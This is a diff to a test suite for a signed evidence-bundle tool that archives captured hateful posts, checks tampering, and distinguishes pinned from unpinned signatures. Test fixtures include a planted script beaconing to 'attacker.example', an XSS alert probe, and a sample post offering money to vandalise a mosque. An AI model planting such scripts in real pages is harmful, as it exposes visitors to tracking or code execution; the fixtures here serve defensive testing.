@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { classify } from '../../shared/classifier/index.js';
 import { capturePost } from '../../shared/domain/post.js';
-import { writeBundle } from '../../shared/evidence/bundle.js';
+import { rawFileName, writeBundle } from '../../shared/evidence/bundle.js';
 import { loadOrCreateSigningKey, type SigningKey } from '../../shared/evidence/signing-key.js';
 import { verifyBundle } from '../../shared/evidence/verify.js';
 import { packageRoot } from '../../shared/paths.js';
@@ -13,6 +13,7 @@ import { insertFlagged } from '../../shared/repositories/review-item.repository.
 import { upsertSource } from '../../shared/repositories/source.repository.js';
 import { createTestDb, type TestDb } from '../support/db.js';
 import { tempDir } from '../support/tmp.js';
+import { craftZip, deflated } from '../support/zip-craft.js';
 
 const V1 = '£100 to anyone who sprays the mosque on Leyton High Road E10. Send a pic to @payday_admin';
 const V2 = '£200 to anyone who sprays the mosque on Leyton High Road E10 <script>alert(1)</script>. Send a pic to @payday_admin';
@@ -67,10 +68,11 @@ describe('evidence bundles', () => {
     const result = await verifyBundle(bundle, { fingerprint: key.fingerprint });
     expect(result).toMatchObject({ ok: true, problems: [], fingerprint: key.fingerprint });
     const to = unzip(bundle);
-    expect(readFileSync(join(to, `items/${itemId}/v1/raw.html`), 'utf8')).toBe(`<div class="tgme_widget_message_wrap">${V1}</div>`);
-    expect(readFileSync(join(to, `items/${itemId}/v2/raw.html`), 'utf8')).toContain('£200');
-    const record = JSON.parse(readFileSync(join(to, `items/${itemId}/item.json`), 'utf8')) as { versions: { version: number; capture: object; post: { text: string } }[]; atSource: object; classification: { rationale: unknown[] }; review: object };
+    expect(readFileSync(join(to, `items/${itemId}/v1/raw.html.txt`), 'utf8')).toBe(`<div class="tgme_widget_message_wrap">${V1}</div>`);
+    expect(readFileSync(join(to, `items/${itemId}/v2/raw.html.txt`), 'utf8')).toContain('£200');
+    const record = JSON.parse(readFileSync(join(to, `items/${itemId}/item.json`), 'utf8')) as { versions: { version: number; raw: object; capture: object; post: { text: string } }[]; atSource: object; classification: { rationale: unknown[] }; review: object };
     expect(record.versions.map((v) => v.version)).toEqual([1, 2]);
+    expect(record.versions[1]!.raw).toMatchObject({ path: 'v2/raw.html.txt', originalName: 'raw.html', contentType: 'text/html; charset=utf-8' });
     expect(record.versions[1]!.capture).toMatchObject({ url: 'https://t.me/s/east_watch', status: 200, fetcher: 'vigil/test' });
     expect(record.versions[0]!.post.text).toBe(V1);
     expect(record.atSource).toMatchObject({ deletedAt: '2025-01-11T08:00:00.000Z' });
@@ -94,7 +96,7 @@ describe('evidence bundles', () => {
       change(root);
       return (await verifyBundle(rezip(root))).problems;
     };
-    const raw = `items/${itemId}/v2/raw.html`;
+    const raw = `items/${itemId}/v2/raw.html.txt`;
     expect(await tamper((r) => writeFileSync(join(r, raw), readFileSync(join(r, raw), 'utf8').replace('£200', '£900')))).toEqual([expect.stringMatching(new RegExp(`^altered: ${raw}`))]);
     expect(await tamper((r) => rmSync(join(r, 'report.html')))).toEqual(['dropped: report.html is listed in the manifest but missing']);
     expect(await tamper((r) => writeFileSync(join(r, 'items', 'extra.txt'), 'planted'))).toEqual(['added: items/extra.txt is not listed in the manifest']);
@@ -114,8 +116,59 @@ describe('evidence bundles', () => {
     writeFileSync(join(root, 'manifest.sig'), sign(null, Buffer.from(manifest), other.privateKey));
     writeFileSync(join(root, 'public-key.pem'), other.publicKeyPem);
     const forged = rezip(root);
-    expect((await verifyBundle(forged)).ok).toBe(true);
+    // Intact and validly signed, by whoever made it: without a pinned key that is all verify can say.
+    expect(await verifyBundle(forged)).toMatchObject({ ok: true, verdict: 'unpinned', fingerprint: other.fingerprint });
+    expect(await verifyBundle(bundle)).toMatchObject({ ok: true, verdict: 'unpinned', fingerprint: key.fingerprint });
+    expect(await verifyBundle(bundle, { fingerprint: key.fingerprint })).toMatchObject({ verdict: 'verified' });
+    expect(await verifyBundle(bundle, { publicKeyPem: key.publicKeyPem })).toMatchObject({ verdict: 'verified' });
+    expect(await verifyBundle(forged, { publicKeyPem: key.publicKeyPem })).toMatchObject({ verdict: 'not-verified' });
     expect((await verifyBundle(forged, { fingerprint: key.fingerprint })).problems).toEqual([`signature: signed with key ${other.fingerprint}, not the expected ${key.fingerprint}`]);
+  });
+
+  it('stores raw captures as inert files, with their original name and media type in item.json', () => {
+    expect(['text/html; charset=utf-8', 'application/rss+xml', 'application/json', 'text/plain', 'image/svg+xml', 'application/octet-stream'].map(rawFileName)).toEqual([
+      { stored: 'raw.html.txt', original: 'raw.html' },
+      { stored: 'raw.xml.txt', original: 'raw.xml' },
+      { stored: 'raw.json.txt', original: 'raw.json' },
+      { stored: 'raw.txt', original: 'raw.txt' },
+      { stored: 'raw.xml.txt', original: 'raw.xml' },
+      { stored: 'raw.bin', original: 'raw.bin' },
+    ]);
+    const names = execFileSync('unzip', ['-Z1', bundle], { encoding: 'utf8' }).trim().split('\n');
+    const raws = names.filter((n) => n.includes('/raw.'));
+    expect(raws).toEqual([`items/${itemId}/v1/raw.html.txt`, `items/${itemId}/v2/raw.html.txt`]);
+    // The one file a browser renders is the report, which escapes every post and runs nothing.
+    expect(names.filter((n) => /\.(html?|xml|svg|xhtml|js)$/i.test(n))).toEqual(['report.html']);
+  });
+
+  it('VERIFY.md names only files the bundle has, and says how to view raw captures safely', () => {
+    const root = unzip(bundle);
+    const names = execFileSync('unzip', ['-Z1', bundle], { encoding: 'utf8' }).trim().split('\n');
+    const instructions = readFileSync(join(root, 'VERIFY.md'), 'utf8');
+    // Every file named in backquotes: a path (globs allowed) or a bare file name.
+    const named = [...instructions.matchAll(/`([\w*./-]+\.(?:json|md|html|pem|sig|txt|bin|\*)|SHA256SUMS)`/g)].map((m) => m[1]!);
+    expect(named).toEqual(expect.arrayContaining(['items/*/item.json', 'custody.json', 'items/*/v*/raw.*', 'raw.html.txt', 'item.json', 'report.html']));
+    for (const name of named) {
+      const re = new RegExp(`^${name.split('*').map((part) => part.replaceAll('.', '\\.')).join('[^/]*')}$`);
+      expect(names.some((n) => re.test(name.includes('/') ? n : n.split('/').at(-1)!)), `VERIFY.md names ${name}`).toBe(true);
+    }
+    expect(instructions).not.toContain('capture.json');
+    expect(instructions).toMatch(/## Viewing the raw captures safely/);
+    expect(instructions).toMatch(/text editor/);
+  });
+
+  it('refuses a bundle that carries a second report.html (duplicate entry names)', async () => {
+    const root = unzip(bundle);
+    const names = execFileSync('unzip', ['-Z1', bundle], { encoding: 'utf8' }).trim().split('\n');
+    // The planted copy comes first; the genuine one, which matches the manifest, last.
+    const planted = craftZip([deflated('report.html', Buffer.from('<script>fetch("https://attacker.example/beacon")</script>')), ...names.map((n) => deflated(n, readFileSync(join(root, n))))]);
+    const file = join(tempDir(), 'duplicate.zip');
+    writeFileSync(file, planted);
+    expect(await verifyBundle(file, { fingerprint: key.fingerprint })).toMatchObject({
+      ok: false,
+      verdict: 'not-verified',
+      problems: ['duplicate: report.html occurs 2 times in the zip; an unzip tool keeps one of them, not necessarily the one checked'],
+    });
   });
 
   it('verifies with standard tools alone, following VERIFY.md', () => {
@@ -152,8 +205,17 @@ describe('evidence bundles', () => {
     expect(exported.status).toBe(0);
     expect(existsSync(out)).toBe(true);
     const verified = spawnSync(process.execPath, [bin, 'verify', out, '--fingerprint', key.fingerprint], { env: { PATH: env.PATH }, encoding: 'utf8' });
-    expect(verified.stdout).toMatch(/^VERIFIED: bundle [0-9a-f-]{36}: signature good/);
+    expect(verified.stdout).toMatch(/^VERIFIED: bundle [0-9a-f-]{36}: signature good by the pinned key/);
     expect(verified.status).toBe(0);
+    // No key pinned: integrity and the signer's fingerprint, never "VERIFIED", and exit 3.
+    const unpinned = spawnSync(process.execPath, [bin, 'verify', out], { env: { PATH: env.PATH }, encoding: 'utf8' });
+    expect(unpinned.stdout).toMatch(/^INTACT, SIGNER NOT CHECKED: bundle [0-9a-f-]{36}: all \d+ files match/);
+    expect(unpinned.stdout).toContain(key.fingerprint);
+    expect(unpinned.stdout).not.toMatch(/VERIFIED/);
+    expect(unpinned.status).toBe(3);
+    const refused = spawnSync(process.execPath, [bin, 'verify', out, '--fingerprint', key.fingerprint, '--max-entries', '3'], { env: { PATH: env.PATH }, encoding: 'utf8' });
+    expect(refused.stdout).toMatch(/^REFUSED: .* was not checked[^]*\d+ entries, over the limit of 3 \(--max-entries\)/);
+    expect(refused.status).toBe(4);
     const bytes = readFileSync(out);
     const at = Math.floor(bytes.length / 3);
     bytes[at] = bytes[at]! ^ 0xff;
